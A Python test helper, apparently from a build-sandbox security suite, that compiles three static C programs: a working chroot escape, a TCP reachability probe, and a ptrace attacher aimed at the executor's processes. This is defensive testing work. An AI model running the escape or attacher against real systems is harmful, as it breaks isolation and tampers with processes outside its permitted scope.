"""Small static C programs the attack tests run inside builds (gcc and libc6-dev come with
scripts/setup.sh): a chroot escape, a TCP probe that needs no name service, a ptrace attacher."""

from __future__ import annotations

import subprocess
from pathlib import Path

ESCAPE_C = r"""
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
/* The classic chroot escape: chroot into a subdirectory, climb with "..", chroot there. */
int main(int argc, char **argv) {
    mkdir("/jail", 0755);
    if (chroot("/jail") != 0) { perror("chroot"); }
    for (int i = 0; i < 128; i++) chdir("..");
    chroot(".");
    int fd = open(argv[1], O_WRONLY | O_CREAT, 0644);
    if (fd < 0) { perror("open"); return 3; }
    write(fd, "escaped\n", 8);
    return 0;
}
"""


PROBE_C = r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/time.h>
#include <sys/socket.h>
#include <unistd.h>
/* TCP to IP:PORT with no name service (busybox's static wget needs NSS), the answer's body. */
int main(int argc, char **argv) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    inet_pton(AF_INET, argv[1], &to.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval limit = {.tv_sec = 3};
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    if (connect(s, (struct sockaddr *)&to, sizeof to) != 0) { printf("unreachable\n"); return 0; }
    const char *get = "GET / HTTP/1.0\r\n\r\n";
    write(s, get, strlen(get));
    char buffer[4096]; int n, total = 0;
    while ((n = read(s, buffer + total, sizeof buffer - 1 - total)) > 0) total += n;
    buffer[total] = 0;
    char *body = strstr(buffer, "\r\n\r\n");
    printf("%s", body ? body + 4 : "no answer\n");
    return 0;
}
"""


PTRACE_C = r"""
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
/* Seize (attach without stopping) every pid given, then let go: the executor's processes. */
int main(int argc, char **argv) {
    for (int i = 1; i < argc; i++) {
        int pid = atoi(argv[i]);
        long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
        printf("%s %s\n", argv[i], r == 0 ? "ATTACHED" : "denied");
        if (r == 0) ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    return 0;
}
"""


SOURCES = {"escape": ESCAPE_C, "probe": PROBE_C, "ptrace": PTRACE_C}


def compile_programs(directory: Path) -> dict[str, bytes]:
    """Each program statically linked: it runs in any base image, busybox's included."""
    binaries = {}
    for name, source in SOURCES.items():
        (directory / f"{name}.c").write_text(source)
        subprocess.run(["gcc", "-static", "-O1", "-o", str(directory / name), str(directory / f"{name}.c")],
                       check=True, capture_output=True)
        binaries[name] = (directory / name).read_bytes()
    return binaries
